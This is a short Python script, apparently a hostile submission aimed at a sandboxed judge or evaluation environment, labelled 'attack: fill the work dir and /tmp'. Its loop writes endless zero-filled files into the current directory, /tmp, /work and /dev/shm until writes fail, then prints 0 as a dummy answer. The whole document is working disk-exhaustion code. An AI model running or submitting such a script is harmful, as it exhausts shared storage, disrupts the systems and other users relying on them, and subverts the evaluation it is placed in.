# target: stdin
# attack: fill the work dir and /tmp with files until writes fail, then keep trying
import os
for root in (".", "/tmp", "/work", "/dev/shm"):
    for index in range(1000):
        try:
            with open(os.path.join(root, f"fill{index}"), "wb") as handle:
                while True:
                    handle.write(b"\0" * (1 << 20))
        except OSError:
            continue
print(0)
